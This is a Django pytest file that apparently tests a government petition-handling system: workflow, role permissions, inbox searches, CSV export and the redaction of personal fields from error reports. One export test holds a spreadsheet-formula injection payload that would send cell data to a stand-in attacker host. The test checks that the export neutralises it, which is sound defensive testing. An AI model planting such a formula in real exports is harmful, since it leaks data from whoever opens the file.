import csv
import io
import re
from datetime import date

import pytest
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.views.debug import SafeExceptionReporterFilter

from servq.core.models import AuditEvent, Unit
from servq.petitions.models import DeadlineRule, Petition, PressRelease
from servq.petitions.services import petition_assign, petition_reply

from .conftest import PDF, category, section
from .test_public_forms import form_data, url


def act(petition, action):
    return reverse("petitions:act", kwargs={"agency": "sly", "pk": petition.pk, "action": action})


def detail(petition):
    return reverse("petitions:detail", kwargs={"agency": "sly", "pk": petition.pk})


def csrf_client(user) -> Client:
    client = Client(enforce_csrf_checks=True)
    client.force_login(user)
    return client


def post_form(client, page_url, action_url, data, files=None):
    """Post as a browser would: with the CSRF token from the page."""
    page = client.get(page_url).content.decode()
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
    return client.post(action_url, {"csrfmiddlewaretoken": token, **data, **(files or {})})


def test_it_walks_a_petition_from_suggestion_to_reply(make_petition, rules,
                                                      django_capture_on_commit_callbacks):
    petition = make_petition(category_code="case", section_hint=section(rules.sly),
                             received_on=date(2015, 6, 1))
    secretariat = csrf_client(rules.secretariat)
    page = secretariat.get(detail(petition)).content.decode()
    assert "分案建議" in page and "庚股" in page
    assert secretariat.post(act(petition, "assign"), {"assign-unit": section(rules.sly).pk}) \
        .status_code == 403  # no CSRF token
    with django_capture_on_commit_callbacks(execute=True):
        response = post_form(secretariat, detail(petition), act(petition, "assign"), {
            "assign-unit": section(rules.sly).pk, "assign-user": rules.clerk.pk})
    assert response.status_code == 302
    assert [m.to for m in mail.outbox] == [["clerk@example.gov.tw"]]
    assert petition.number in mail.outbox[0].subject and "王小明" not in mail.outbox[0].body
    clerk = csrf_client(rules.clerk)
    response = post_form(clerk, detail(petition), act(petition, "contact"), {
        "contact-method": "phone", "contact-summary": "告知正向移送機關查證", "contact-on": "104/06/05"})
    assert response.status_code == 302
    response = post_form(clerk, detail(petition), act(petition, "reply"), {
        "reply-method": "letter", "reply-summary": "函復處理結果", "reply-on": "2015-06-08",
        "reply-close": "on"})
    assert response.status_code == 302
    petition.refresh_from_db()
    assert (petition.status, petition.replied_on, petition.closed_on) == (
        "closed", date(2015, 6, 8), date(2015, 6, 8))
    page = clerk.get(detail(petition)).content.decode()
    assert "收件後 7 日" in page and "告知正向移送機關查證" in page


def test_it_shows_service_errors_on_the_form(make_petition, rules, client_for):
    petition = make_petition(received_on=date(2015, 6, 1))
    response = client_for(rules.secretariat).post(act(petition, "reply"), {
        "reply-method": "letter", "reply-on": "104/05/01"})
    page = response.content.decode()
    assert response.status_code == 400 and "回覆日期不能早於收件日" in page
    assert client_for(rules.secretariat).post(act(petition, "nope"), {}).status_code == 404


def test_it_links_a_repeated_petition_to_the_earlier_one(make_petition, rules, client_for):
    earlier = make_petition(received_on=date(2015, 5, 1))
    again = make_petition(received_on=date(2015, 6, 1))
    response = client_for(rules.secretariat).post(act(again, "not-processed"), {
        "not-processed-reason": "repeated", "not-processed-repeat_of": earlier.number.lower()})
    assert response.status_code == 302
    again.refresh_from_db()
    assert (again.status, again.repeat_of) == ("not_processed", earlier)
    assert earlier.number in client_for(rules.secretariat).get(detail(again)).content.decode()


@pytest.mark.parametrize("who,action,status", [
    ("hq_auditor", "reply", 403), ("director", "reply", 403),
    ("committee", "reply", 404),  # not referred to the committee: outside its scope
    ("director", "assign", 200), ("clerk", "assign", 404), ("outsider", "reply", 404),
    ("statistics", "contact", 403),
])
def test_it_refuses_actions_to_roles_without_them(make_petition, rules, client_for, who, action,
                                                  status):
    petition = make_petition(received_on=date(2015, 6, 1))
    data = {"reply-method": "letter", "contact-method": "phone", "contact-summary": "x",
            "assign-unit": Unit.objects.get(agency=rules.sly, code="secretariat").pk}
    response = client_for(getattr(rules, who)).post(act(petition, action), data)
    assert response.status_code == (302 if status == 200 else status)


def listed(response) -> set[str]:
    return set(re.findall(r"SLY104\d{6}", response.content.decode()))


def test_it_lists_with_a_constant_number_of_queries(make_petition, rules, client_for,
                                                    django_assert_max_num_queries):
    petitions = [make_petition(received_on=date(2015, 6, 1 + n % 28),
                               category_code="case" if n % 2 else "other",
                               section_hint=section(rules.sly)) for n in range(30)]
    every = {p.number for p in petitions}
    cases = {p.number for p in petitions if p.category.code == "case"}
    client = client_for(rules.secretariat)
    for name, params, expected in [
            ("inbox", {}, every), ("overdue", {"on": "2015-12-31"}, every),
            ("inbox", {"box": "open", "category": category("case").pk}, cases)]:
        with django_assert_max_num_queries(12):
            response = client.get(reverse(f"petitions:{name}", kwargs={"agency": "sly"}), params)
        assert listed(response) == expected
    assert len(cases) == 15


def test_it_narrows_the_inbox_by_each_search_field(make_petition, rules, client_for):
    secretariat_unit = Unit.objects.get(agency=rules.sly, code="secretariat")
    case = make_petition(category_code="case", received_on=date(2015, 6, 1))
    petition_assign(petition=case, unit=section(rules.sly), user=rules.clerk,
                    actor=rules.secretariat, on=date(2015, 6, 2))
    replied = make_petition(category_code="other", received_on=date(2015, 6, 10))
    petition_assign(petition=replied, unit=secretariat_unit, user=rules.secretariat,
                    actor=rules.secretariat, on=date(2015, 6, 10))
    petition_reply(petition=replied, method="letter", summary="函復", actor=rules.secretariat,
                   on=date(2015, 6, 12))
    waiting = make_petition(category_code="attitude", channel="email",
                            received_on=date(2015, 6, 20))
    service = make_petition(category_code="service", received_on=date(2015, 7, 1))
    petition_assign(petition=service, unit=secretariat_unit, actor=rules.secretariat,
                    on=date(2015, 7, 1))
    client = client_for(rules.secretariat)
    inbox = reverse("petitions:inbox", kwargs={"agency": "sly"})
    for params, expected in [
            ({}, {case, replied, waiting, service}),
            ({"box": "mine"}, {replied}),
            ({"box": "unit"}, {replied, service}),
            ({"box": "unassigned"}, {waiting}),
            ({"box": "open"}, {case, waiting, service}),
            ({"number": service.number.lower()}, {service}),
            ({"received_from": "104/06/05", "received_to": "104/06/25"}, {replied, waiting}),
            ({"received_from": "2015-06-20"}, {waiting, service}),
            ({"category": category("case").pk}, {case}),
            ({"channel": "email"}, {waiting}),
            ({"status": "closed"}, {replied}),
            ({"status": "assigned"}, {case, service}),
            ({"box": "unit", "status": "assigned"}, {service})]:
        response = client.get(inbox, params)
        assert response.status_code == 200
        assert listed(response) == {p.number for p in expected}, params
    # The clerk's "unit" box is the section's, not the secretariat's.
    assert listed(client_for(rules.clerk).get(inbox, {"box": "unit"})) == {case.number}


def test_it_registers_an_oral_petition_with_its_signed_record(rules, client_for, tmp_path):
    scan = tmp_path / "record.pdf"
    scan.write_bytes(PDF)
    client = client_for(rules.ethics)
    page = client.get(reverse("petitions:new", kwargs={"agency": "sly"})).content.decode()
    key = re.search(r'name="submission_key" value="([0-9a-f]+)"', page).group(1)
    data = {"submission_key": key, "channel": "oral", "category": category("attitude").pk,
            "received_on": "104/06/02", "subject": "口頭陳情：執行態度", "name": "趙先生"}
    missing = client.post(reverse("petitions:new", kwargs={"agency": "sly"}), data)
    assert missing.status_code == 400 and "簽名的紀錄掃描檔" in missing.content.decode()
    with scan.open("rb") as handle:
        response = client.post(reverse("petitions:new", kwargs={"agency": "sly"}),
                               {**data, "signed_record": handle})
    assert response.status_code == 302
    petition = Petition.objects.get()
    assert (petition.recorded_by, petition.received_on) == (rules.ethics, date(2015, 6, 2))
    assert petition.attachments.get().kind == "signed_record"
    # The secretariat cannot record oral petitions (the ethics office does).
    page = client_for(rules.secretariat).get(reverse("petitions:new", kwargs={"agency": "sly"}))
    assert 'value="oral"' not in page.content.decode()


def test_it_requires_the_superior_agencys_reference_for_a_forwarded_petition(rules, client_for):
    client = client_for(rules.secretariat)
    address = reverse("petitions:new", kwargs={"agency": "sly"})
    data = {"submission_key": "k1", "channel": "forwarded", "category": category("case").pk,
            "received_on": "104/06/02", "subject": "函轉陳情"}
    assert "函轉機關文號" in client.post(address, data).content.decode()
    response = client.post(address, {**data, "forwarded_by": "法務部行政執行署",
                                      "forwarded_ref": "行執一字第10400001號",
                                      "forwarded_on": "104/05/29"})
    assert response.status_code == 302
    assert Petition.objects.get().forwarded_ref == "行執一字第10400001號"


def test_it_lets_the_secretariat_keep_the_rules_within_the_cap(rules, client_for):
    client = client_for(rules.secretariat)
    address = reverse("petitions:rules", kwargs={"agency": "sly"})
    page = client.get(address).content.decode()
    data = {name: value for name, value in re.findall(
        r'name="((?:deadline|routing)-[^"]+)"[^>]*value="([^"]*)"', page)}
    rows = int(data["deadline-INITIAL_FORMS"])
    case_row = next(n for n in range(rows) if data[f"deadline-{n}-id"] == str(
        DeadlineRule.objects.get(agency=rules.sly, category=category("case")).pk))
    selects = dict(re.findall(r'<select name="((?:deadline|routing)-\d+-\w+)"[^>]*>.*?'
                              r'<option value="([^"]*)" selected>', page, re.S))
    data |= selects | {"deadline-TOTAL_FORMS": str(rows), "routing-TOTAL_FORMS":
                       data["routing-INITIAL_FORMS"]}
    data[f"deadline-{case_row}-days"] = "31"
    refused = client.post(address, data)
    assert refused.status_code == 400 and "30" in refused.content.decode()
    data[f"deadline-{case_row}-days"] = "7"
    assert client.post(address, data).status_code == 302
    assert DeadlineRule.objects.get(agency=rules.sly, category=category("case")).days == 7
    assert AuditEvent.objects.filter(action="petition.rules_change").exists()
    assert client_for(rules.clerk).get(address).status_code == 403
    assert client_for(rules.outsider).get(address).status_code == 404


def test_it_keeps_the_media_ledger(rules, client_for):
    client = client_for(rules.secretariat)
    response = client.post(reverse("petitions:media-new", kwargs={"agency": "sly", "kind": "press"}),
                           {"issued_on": "104/06/23", "title": "新聞稿標題"})
    assert response.status_code == 302
    assert PressRelease.objects.get().issued_on == date(2015, 6, 23)
    page = client_for(rules.director).get(reverse("petitions:media", kwargs={"agency": "sly"}),
                                          {"year": 2015}).content.decode()
    assert "新聞稿標題" in page and "新增新聞稿" not in page
    assert client_for(rules.director).post(
        reverse("petitions:media-new", kwargs={"agency": "sly", "kind": "news"}), {}
    ).status_code == 403


def test_it_shows_the_petition_menu_to_the_roles_that_have_it(rules, client_for):
    home = client_for(rules.secretariat).get(reverse("core:staff-home")).content.decode()
    assert "陳情案件" in home and "陳情期限與分案規則" in home
    home = client_for(rules.personnel).get(reverse("core:staff-home")).content.decode()
    assert "陳情案件" not in home


def test_it_exports_a_hostile_subject_as_text_not_a_formula(make_petition, rules, client_for):
    hostile = '=HYPERLINK("https://evil.example/?"&B2,"點此")'
    make_petition(subject=hostile)
    make_petition(subject="-1+2 繳款疑問")
    response = client_for(rules.secretariat).get(
        reverse("petitions:export", kwargs={"agency": "sly"}))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    subjects = {row[4] for row in rows[1:]}
    assert subjects == {"'" + hostile, "'-1+2 繳款疑問"}


def test_it_keeps_what_petitioners_and_reporters_type_out_of_error_reports(rules, client,
                                                                          client_for,
                                                                          make_petition):
    """The mailbox, the intake and the reveal mark their personal fields as sensitive: an
    error report (mail to the administrators) shows them as stars."""
    def cleansed(response, names):
        shown = SafeExceptionReporterFilter().get_post_parameters(response.wsgi_request)
        return all(shown[name] == SafeExceptionReporterFilter.cleansed_substitute
                   for name in names)

    mailbox = client.post(url("ethics"), form_data(client, "ethics"))
    assert cleansed(mailbox, ["name", "email", "phone", "address"])
    intake = client_for(rules.secretariat).post(reverse("petitions:new", kwargs={"agency": "sly"}),
                                                {"name": "林小華", "email": "lin@example.org",
                                                 "phone": "0912", "address": "士林"})
    assert cleansed(intake, ["name", "email", "phone", "address"])
    report = make_petition(channel="ethics_mailbox", category_code="ethics")
    reveal = client_for(rules.ethics).post(
        reverse("petitions:reporter", kwargs={"agency": "sly", "pk": report.pk}),
        {"reason": "需聯絡檢舉人補充事證"})
    assert cleansed(reveal, ["reason"])
